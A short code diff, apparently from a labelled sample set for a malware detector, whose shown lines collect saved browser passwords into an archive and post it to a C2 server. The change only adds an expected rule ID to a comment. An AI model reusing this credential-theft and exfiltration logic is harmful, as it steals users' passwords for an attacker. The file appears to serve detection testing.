@@ -46,4 +46,4 @@ def run(uid):
             if os.path.isdir(root):
                 z.writestr(f"{name}.txt", "\n".join(map(str, passwords(root, master_key(root)))))
     with open(archive, "rb") as f:
-        requests.post(C2, files={"multi_file": f}, data={"type": "14", "hid": uid}, timeout=60)  # expect: HS111 high
+        requests.post(C2, files={"multi_file": f}, data={"type": "14", "hid": uid}, timeout=60)  # expect: HS111 high, HS118 high
